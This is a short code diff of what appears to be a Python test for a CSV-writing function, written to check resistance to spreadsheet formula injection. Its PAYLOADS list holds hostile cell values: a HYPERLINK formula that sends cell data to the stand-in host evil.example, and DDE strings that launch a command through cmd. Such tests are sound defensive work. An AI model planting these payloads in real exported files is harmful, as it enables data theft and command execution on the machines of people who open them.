@@ -6,8 +6,9 @@ from __future__ import annotations
 import csv
 import io
 
-from worker import algorithm
 from worker.tabular import write_csv
+
+from tests.fixtures.algorithms import every_param as algorithm
 
 PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
